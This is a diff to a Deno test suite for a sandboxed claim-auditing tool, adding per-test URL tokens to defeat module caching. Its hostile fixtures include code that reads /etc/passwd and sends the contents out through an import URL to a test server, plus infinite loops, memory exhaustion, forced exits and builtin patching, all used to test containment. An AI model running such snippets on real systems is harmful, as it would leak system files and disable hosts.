@@ -13,7 +13,7 @@ const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
 /** Serves `modules` (path → source) and the repository; records each request's URL. */
 async function withServed(
   modules: Record<string, string>,
-  body: (origin: string, requested: string[]) => Promise<void>,
+  body: (origin: string, requested: string[], token: string) => Promise<void>,
 ): Promise<void> {
   const controller = new AbortController();
   const requested: string[] = [];
@@ -22,7 +22,7 @@ async function withServed(
     async (request) => {
       const url = new URL(request.url);
       requested.push(decodeURIComponent(url.pathname + url.search));
-      const source = modules[url.pathname];
+      const source = modules[url.pathname.replace(/-[0-9a-f]{32}\.ts$/, ".ts")];
       if (source !== undefined) {
         return new Response(source, { headers: { "content-type": "application/typescript" } });
       }
@@ -37,8 +37,11 @@ async function withServed(
       }
     },
   );
+  // Deno caches remote modules by URL, and a later run may get the same port: a fresh
+  // token in each module's path (the server strips it) keeps one test from reading another's.
+  const token = crypto.randomUUID().replaceAll("-", "");
   try {
-    await body(`http://127.0.0.1:${server.addr.port}`, requested);
+    await body(`http://127.0.0.1:${server.addr.port}`, requested, token);
   } finally {
     controller.abort();
     await server.finished;
@@ -144,12 +147,12 @@ Deno.test("reading files and sending them out: nothing reaches the server, the b
       try { secret = await Deno.readTextFile("/etc/passwd"); } catch (e) { secret = "denied:" + e.name; }
       await import("LEAK/leak?top=" + encodeURIComponent(secret)).catch(() => {});`,
   );
-  await withServed({}, async (origin, requested) => {
+  await withServed({}, async (origin, requested, _token) => {
     const text = source.replaceAll("LEAK", origin);
-    await withServed({ "/hostile.ts": text }, async (origin2, requested2) => {
+    await withServed({ "/hostile.ts": text }, async (origin2, requested2, token2) => {
       const { code, out, err } = await audit(
         "--claims",
-        `${origin2}/hostile.ts`,
+        `${origin2}/hostile-${token2}.ts`,
         "--format",
         "json",
       );
@@ -188,8 +191,13 @@ Deno.test("the module's own origin may be imported, but no file content goes wit
       try { secret = Deno.readTextFileSync("/etc/passwd"); } catch (e) { secret = "denied:" + e.name; }
       await import("./leak.ts?top=" + encodeURIComponent(secret));`,
   );
-  await withServed({ "/hostile.ts": source }, async (origin, requested) => {
-    const { code, out, err } = await audit("--claims", `${origin}/hostile.ts`, "--format", "json");
+  await withServed({ "/hostile.ts": source }, async (origin, requested, token) => {
+    const { code, out, err } = await audit(
+      "--claims",
+      `${origin}/hostile-${token}.ts`,
+      "--format",
+      "json",
+    );
     const report = JSON.parse(out);
     deepStrictEqual(benign(report), TRUE_VERDICTS, err);
     strictEqual(code, 2);
@@ -205,13 +213,13 @@ Deno.test("exiting, hanging and exhausting memory are errors of their claims; th
     claim("bad.exit", `Deno.exit(0);`),
     claim("bad.process-exit", `globalThis.__p.exit(0); return null;`),
     claim("bad.hang", `for (;;) {}`),
-    claim("bad.memory", `const a = []; for (;;) a.push({ a, n: a.length });`),
+    claim("bad.memory", `const a = []; for (;;) a.push(new Array(1e6).fill(a.length));`),
   ], `import process from "node:process"; globalThis.__p = process;`);
-  await withServed({ "/hostile.ts": source }, async (origin) => {
+  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
     for (const extra of [[], ["--fail-on-disagree"]]) {
       const { code, out, err } = await audit(
         "--claims",
-        `${origin}/hostile.ts`,
+        `${origin}/hostile-${token}.ts`,
         "--format",
         "json",
         "--timeout",
@@ -261,10 +269,10 @@ Deno.test("patching builtins or the context cannot change another claim's verdic
       `globalThis.Math = { abs: () => 0 }; return { computed: "4", verdict: "agrees", reason: "x" };`,
     ),
   ], `try { Object.prototype.polluted = 1; } catch {}`);
-  await withServed({ "/hostile.ts": source }, async (origin) => {
+  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
     const { code, out, err } = await audit(
       "--claims",
-      `${origin}/hostile.ts`,
+      `${origin}/hostile-${token}.ts`,
       "--format",
       "json",
       "--fail-on-disagree",
@@ -302,8 +310,8 @@ Deno.test("BigInt, cyclic and throwing fields and hostile ids are errors of thei
         counterexample: { values: { x: 1 }, stated: 1, expected: 2 } };`,
     ),
   ]);
-  await withServed({ "/hostile.ts": source }, async (origin) => {
-    const json = await audit("--claims", `${origin}/hostile.ts`, "--format", "json");
+  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
+    const json = await audit("--claims", `${origin}/hostile-${token}.ts`, "--format", "json");
     const report = JSON.parse(json.out);
     deepStrictEqual(benign(report), TRUE_VERDICTS, json.err);
     const errors = Object.fromEntries(
@@ -318,7 +326,12 @@ Deno.test("BigInt, cyclic and throwing fields and hostile ids are errors of thei
     }, json.out);
     strictEqual(json.code, 2);
     for (const format of ["text", "markdown"]) {
-      const { code, out } = await audit("--claims", `${origin}/hostile.ts`, "--format", format);
+      const { code, out } = await audit(
+        "--claims",
+        `${origin}/hostile-${token}.ts`,
+        "--format",
+        format,
+      );
       strictEqual(code, 2);
       ok(
         // deno-lint-ignore no-control-regex
